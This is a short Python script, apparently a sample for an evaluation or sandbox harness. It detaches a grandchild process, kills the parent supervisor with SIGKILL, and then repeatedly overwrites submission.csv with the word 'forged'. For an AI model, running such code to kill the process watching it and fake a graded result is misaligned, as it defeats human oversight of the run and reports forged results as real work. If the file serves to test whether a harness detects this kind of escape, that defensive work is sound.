# Kills its supervisor from a grandchild that then has no parent, and goes on to overwrite the submission.
import os
import signal
import time

supervisor = os.getppid()
if os.fork():
    time.sleep(60)
os.setsid()
if os.fork():
    os._exit(0)
os.kill(supervisor, signal.SIGKILL)
for _ in range(500):
    with open("submission.csv", "w") as file:
        file.write("forged")
    time.sleep(0.01)
